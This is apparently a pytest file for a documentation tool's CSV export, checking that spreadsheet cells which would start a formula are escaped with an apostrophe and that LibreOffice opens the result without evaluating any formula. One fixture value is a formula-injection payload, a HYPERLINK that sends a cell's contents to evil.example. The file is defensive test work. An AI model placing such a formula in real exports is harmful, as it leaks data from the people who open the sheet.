"""`jtai-docs actions --format csv` ("CSV for Excel") never hands a spreadsheet a formula typed as workbook text."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import tempfile
from pathlib import Path

import openpyxl
import pytest

from helpers import Row, beside_workbook, edit_workbook, make_workbook, run
from jtai_docs import libreoffice

#: Text an officer (or anyone who edits the shared workbook) may type; a spreadsheet would run the first four.
PROGRESS = {
    "1.01": '=HYPERLINK("http://evil.example/?leak="&C5,"Complete - see evidence")',
    "1.02": "-2 actions outstanding, +1 added",
    "1.03": "+44 191 383 3000 called",
    "1.04": "@SUM(1,2)",
    "1.05": "\tindented note",
    "1.06": "-2",
    "1.07": "Complete = all audited",
}


def _plan(tmp_path: Path) -> Path:
    rows = [Row(ref=ref, progress=text) for ref, text in PROGRESS.items()]
    make_workbook(tmp_path / "plan.xlsx", rows)

    def as_typed(book) -> None:  # text, as Excel stores =... typed after an apostrophe or into a Text cell
        for row in book["Action Plan"].iter_rows(min_row=2, min_col=7, max_col=7):
            row[0].data_type = "s"

    edit_workbook(tmp_path / "plan.xlsx", as_typed)
    return beside_workbook(tmp_path)


def test_text_that_would_start_a_formula_is_written_with_an_apostrophe_and_json_is_unchanged(tmp_path):
    settings = _plan(tmp_path)
    result = run("actions", settings, "--all", "--format", "csv")
    assert result.exit_code == 0, result.output
    written = {record["Ref"]: record["Progress update"] for record in csv.DictReader(io.StringIO(result.stdout))}
    assert written == {
        "1.01": "'" + PROGRESS["1.01"],
        "1.02": "'-2 actions outstanding, +1 added",
        "1.03": "'+44 191 383 3000 called",
        "1.04": "'@SUM(1,2)",
        "1.05": "'\tindented note",
        "1.06": "-2",  # a plain figure: a spreadsheet reads it as the number, never as a formula
        "1.07": "Complete = all audited",
    }
    listed = json.loads(run("actions", settings, "--all", "--format", "json").stdout)
    assert {record["Ref"]: record["Progress update"] for record in listed} == PROGRESS


@pytest.mark.libreoffice
def test_libreoffice_opens_the_csv_with_no_formula_and_a_figure_as_a_number(tmp_path):
    settings = _plan(tmp_path)
    (tmp_path / "plan.csv").write_text(run("actions", settings, "--all", "--format", "csv").stdout, encoding="utf-8")
    with tempfile.TemporaryDirectory(prefix="csv-lo-") as profile:
        subprocess.run(
            [
                libreoffice.find_soffice(),
                f"-env:UserInstallation={Path(profile).as_uri()}",
                "--headless",
                "--norestore",
                # comma-separated, double-quoted, UTF-8 (76), from line 1; formulas evaluated as a user's import does
                "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,false,true",
                "--convert-to",
                "xlsx",
                "--outdir",
                str(tmp_path / "opened"),
                str(tmp_path / "plan.csv"),
            ],
            capture_output=True,
            timeout=300,
            stdin=subprocess.DEVNULL,
            check=True,
        )
    sheet = openpyxl.load_workbook(tmp_path / "opened" / "plan.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    progress = {str(row[0].value): row[6] for row in sheet.iter_rows(min_row=2)}
    assert progress["1.01"].value == "'" + PROGRESS["1.01"]
    assert (progress["1.06"].value, progress["1.06"].data_type) == (-2, "n")
